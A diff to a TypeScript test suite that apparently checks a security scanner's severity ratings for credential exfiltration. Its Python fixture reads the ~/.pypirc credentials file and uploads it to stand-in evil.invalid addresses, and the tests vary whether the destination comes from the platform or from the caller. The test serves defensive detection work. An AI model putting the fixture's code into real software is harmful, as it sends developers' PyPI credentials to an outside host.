@@ -156,13 +156,18 @@ test.each(KEPT)('what is sent by way of %s', (_way, code) => {
 
 test('which of several addresses it is, a caller says or nobody does', () => {
   const code = (key: string): string => `
-import configparser, os, sys, urllib.request
+import argparse, os, sys, urllib.request
 PLACES = {"linux": "https://evil.invalid/a", "win32": "https://evil.invalid/b"}
 def post(name):
     kept = open(os.path.expanduser("~/.pypirc")).read()
-    return urllib.request.urlopen(PLACES[${key}], kept.encode())`;
+    return urllib.request.urlopen(PLACES[${key}], kept.encode())
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--place", default="linux")
+    post(parser.parse_args().place)`;
   expect(found(code('sys.platform'))['stolen-data-sent']).toBe('CRITICAL');
-  expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(code('name'))['stolen-data-sent']);
+  for (const theirs of ['name', 'sys.argv[1]', 'input("where? ")'])
+    expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(code(theirs))['stolen-data-sent']);
 });
 
 test('a module that is written and then imported', () => {
